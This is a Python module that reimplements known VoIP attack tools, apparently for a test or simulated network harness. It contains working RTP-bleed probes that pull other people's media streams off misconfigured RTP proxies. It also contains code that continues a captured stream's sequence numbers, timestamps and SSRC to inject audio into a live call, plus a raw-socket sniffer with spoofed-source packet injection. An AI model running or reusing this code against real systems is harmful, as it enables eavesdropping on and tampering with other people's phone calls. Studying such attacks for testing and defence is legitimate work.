"""What the tools do that look for RTP bleed and speak into calls of others, packet by packet.

rtpnatscan and rtcpnatscan (kapejod), rtpbleed, rtcpbleed and rtpbleedinject (SIPPTS), rtpinsertsound (hackingvoip.com)."""
import select
import socket
import struct
import time

from forge import forged
from sound import encode, tone


class Tool:
    """On a host of its own, or on that of a phone: whatever is sent to its socket it has bled."""

    def __init__(self, net, address):
        self.net, self.address = net, address
        self.socket = net.make(self.open, address)
        self.bled = []

    def open(self, address):
        opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        opened.bind((address, 0))
        return opened

    def close(self):
        self.socket.close()

    def send(self, packet, host, port, wait_s):
        self.socket.sendto(packet, (host, port))
        until = time.monotonic() + wait_s
        while select.select([self.socket], [], [], max(0, until - time.monotonic()))[0]:
            data, source = self.socket.recvfrom(4096)
            self.bled.append((source, data))

    def rtpbleed(self, host, ports, payload_type=0, tries=4):
        """A bare head with the marker, on every even port, four times: one that learns late sends the stream here."""
        for port in ports[::2]:
            for sequence in range(tries):
                self.send(bytes((0x80, 0x80 | payload_type)) + struct.pack(">HII", sequence, 0, 0), host, port, 0.005)

    def rtpnatscan(self, host, ports, payload_size=160, payload_type=0):
        """The same with a payload."""
        for port in ports[::2]:
            for sequence in range(4):
                self.send(bytes((0x80, 0x80 | payload_type)) + struct.pack(">HII", sequence, 0, 0) + bytes(payload_size),
                          host, port, 0.005 + sequence / 1000)

    def rtcpbleed(self, host, ports):
        """Four bytes of RTCP, round and round."""
        for _ in range(4):
            for port in ports:
                self.send(bytes.fromhex("80000000"), host, port, 0.001)

    def rtpbleedinject(self, host, port, tries=300):
        """Asks until something of the stream comes back, to go on with its numbers."""
        for sequence in range(1, tries):
            self.send(b"\x80\x80" + struct.pack(">HII", sequence, 0, 0), host, port, 0.001)
            if self.bled:
                return self.go_on(self.bled[-1][1], host, port)

    def go_on(self, heard, host, port, hertz=1800, packets=100):
        """Speaks into a stream whose numbers it knows, from its own address."""
        for packet in continued(heard, hertz, packets):
            self.send(packet, host, port, 0.015)


def continued(heard, hertz, packets, ahead=2):
    """The next packets of the stream of that one, with a tone in them."""
    sequence, timestamp, ssrc = struct.unpack(">HII", heard[2:12])
    sound = encode(tone(hertz, packets * 160 // 8000 + 1))
    for i in range(packets):
        # The sound's own factor of what rtpinsertsound calls spoofing: far enough ahead to be first.
        yield (b"\x80\x00" + struct.pack(">HII", (sequence + ahead + i) % 65536,
                                         (timestamp + 160 * (ahead + i)) % 2**32, ssrc) +
               sound[160 * i:160 * (i + 1)] + bytes(len(heard) - 172 if len(heard) > 172 else 0))


class Sniffer:
    """Sees what passes on an interface of `net`, as the tools' libpcap does."""

    def __init__(self, net, interface="lo"):
        self.socket = net.make(self.open, interface)
        self.socket.settimeout(5)

    def open(self, interface):
        opened = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        opened.bind((interface, 0x0800))
        return opened

    def close(self):
        self.socket.close()

    def catch(self, wanted):
        """The next UDP datagram for which wanted(source, target, payload): those three."""
        while True:
            packet = self.socket.recv(4096)
            if packet[9] != 17:
                continue
            head = (packet[0] & 15) * 4
            source, target = (socket.inet_ntoa(packet[12 + i:16 + i]) for i in (0, 4))
            ports = struct.unpack(">HH", packet[head:head + 4])
            caught = (source, ports[0]), (target, ports[1]), packet[head + 8:]
            if wanted(*caught):
                return caught


def insert_sound(net, sniffer, wanted, hertz=1800, packets=100):
    """As rtpinsertsound: under the phone's own address and port, with the numbers that its packets show."""
    def speak():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
            source, target, heard = sniffer.catch(wanted)
            for packet in continued(heard, hertz, packets):
                out.sendto(forged(source[0], source[1], target[0], target[1], packet), (target[0], 0))
                time.sleep(0.015)
    net.make(speak)
